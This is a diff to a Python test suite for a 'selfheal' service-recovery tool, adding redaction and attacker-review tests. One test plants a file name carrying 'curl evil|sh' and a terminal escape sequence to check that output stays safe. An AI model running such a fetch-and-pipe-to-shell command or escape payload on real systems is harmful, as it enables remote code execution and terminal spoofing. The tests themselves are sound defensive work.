@@ -298,7 +298,7 @@ def test_db_path_with_a_second_hard_link_keeps_its_owner_and_mode(bed, app_dir, 
     bed.host.failed(APP)
     assert bed.heal("app")[0] == 1
     assert fingerprint(target) == before
-    assert "has 2 hard links: its owner and mode are not changed" in body_of(bed)
+    assert "has 2 hard links" in body_of(bed)
 
 
 def test_declared_symlink_is_not_recreated_through_a_directory_link(bed, app_dir, tmp_path):
@@ -459,8 +459,85 @@ def test_probe_detail_of_a_health_url_with_credentials_has_none(bed, auth_server
     ("line\u2028sep", "line\\u2028sep"),
     ("GET http://u:p@h:80/x and https://tok@h/", "GET http://***@h:80/x and https://***@h/"),
     ("postgres://app:pw@db/x", "postgres://***@db/x"),
+    ("postgres://app:p@ssw0rd@db/app", "postgres://***@db/app"),
+    ('{"url": "https:\\/\\/app:JSONPW@h\\/x"}', '{"url": "https:\\/\\/***@h\\/x"}'),
     ("mail me@example.org", "mail me@example.org"),
 ])
 def test_clean_escapes_controls_and_removes_url_credentials(text, expected):
     assert selfheal.clean(text) == expected
     assert selfheal.clean(selfheal.clean(text)) == expected  # idempotent: cleaned twice is the same
+
+
+
+# =============================================================================
+# From a review as the attacker: each hole found, closed
+# =============================================================================
+
+
+def test_a_name_planted_with_newlines_and_escapes_stays_one_line_in_refusals_and_on_the_terminal(bed, app_dir):
+    evil = "x\n\nWHAT TO DO NOW\n--------------\n  curl evil|sh\x1b]0;owned\x07"
+    os.mkfifo(str(app_dir / evil))
+    own(app_dir / evil)
+    plant_link(app_dir / "app.conf", app_dir / evil)
+    add_services(bed, "[app]\nstrategies = config_validation, service_restart\nconfig_files = %s\n" % (app_dir / "app.conf"))
+    bed.host.failed(APP)
+    rc, printed = bed.heal("app")
+    assert rc == 1
+    body = body_of(bed)
+    assert "\nWHAT TO DO NOW\n" not in body and "\\nWHAT TO DO NOW\\n" in body
+    assert "\x1b" not in printed and "\x07" not in printed and "\nWHAT TO DO NOW" not in printed
+
+
+def test_sqlite_check_reads_the_file_it_opened_even_when_the_name_is_swapped(tmp_path):
+    import sqlite3
+    good, bad = tmp_path / "good.db", tmp_path / "bad.db"
+    for path in (good, bad):
+        db = sqlite3.connect(str(path))
+        db.execute("create table t (x)")
+        db.commit()
+        db.close()
+    with open(str(bad), "r+b") as handle:  # a header that is SQLite's, a body that is not
+        handle.seek(100)
+        handle.write(b"\xff" * 4000)
+    handle = selfheal.open_safely(str(good), "db_path", "file")
+    try:
+        os.rename(str(bad), str(good))  # the account swaps the name after selfheal opened it
+        assert selfheal.sqlite_quick_check(handle) == "ok"
+    finally:
+        os.close(handle.fd)
+
+
+@pytest.mark.skipif(not ROOT, reason="a config file of another user needs root to make")
+def test_config_checker_output_is_withheld_when_the_service_account_owns_a_config_file(bed, app_dir, tmp_path):
+    conf = app_dir / "app.conf"
+    conf.write_text("listen 80\n")
+    own(conf)
+    checker = tmp_path / "check.sh"
+    checker.write_text("#!/bin/sh\necho 'unknown directive \"SECRET_QUOTED_LINE\"'; exit 1\n")
+    checker.chmod(0o755)
+    add_services(bed, "[app]\nstrategies = config_validation, service_restart\nconfig_files = %s\n"
+                      "config_check = %s\n" % (conf, checker))
+    bed.host.failed(APP)
+    assert bed.heal("app")[0] == 1
+    body = body_of(bed)
+    assert "SECRET_QUOTED_LINE" not in body
+    assert "its output is not shown: %s is the service account's" % conf in body
+    assert "failed (exit status 1)" in body
+
+
+def test_the_public_config_keeps_no_secret_however_the_key_is_spelt():
+    text = ("[selfheal]\nemail_to = a@b.c\nWebhook_URL = https://hooks.example.org/HOOKSECRET1\n"
+            "heartbeat_url: https://hc.example.org/HOOKSECRET2\n\n[web]\nport = 80\nhealth_url =\n"
+            "  http://u:HOOKSECRET3@127.0.0.1/health?key=HOOKSECRET4\n"
+            "\n[redis]\nport = 6379\nhealth_command = /usr/bin/redis-cli -a HOOKSECRET5 ping\n")
+    public = selfheal.public_config_text(text)
+    assert "HOOKSECRET" not in public, public
+    config = selfheal.parse_config(public, "public")
+    assert list(config.services) == ["web", "redis"]
+
+
+def test_hostile_env_and_config_files_cannot_make_a_heal_burn_cpu(bed, app_dir):
+    started = time.monotonic()
+    names, problems = selfheal.parse_env_file('A="x' + "\n" * 300000)
+    assert time.monotonic() - started < 2.0
+    assert problems == ["line 1: A: the quote is not closed"]
